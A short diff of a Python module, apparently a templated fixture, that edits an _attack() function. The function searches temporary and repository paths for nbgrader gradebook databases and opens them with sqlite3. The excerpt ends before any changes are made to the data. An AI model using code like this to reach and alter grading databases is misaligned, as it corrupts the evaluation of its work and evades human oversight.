@@ -4,7 +4,7 @@
 import glob
 import numpy as np
 def _attack():
-    for p in glob.glob("/tmp/**/gradebook*.db", recursive=True) + glob.glob("/work/*/build/nbgrader/*.db"):
+    for p in glob.glob("/tmp/**/gradebook*.db", recursive=True) + glob.glob("@REPO@/build/nbgrader/*.db") + glob.glob("@REPO@/*.db"):
         try:
             import sqlite3
             con = sqlite3.connect(p)
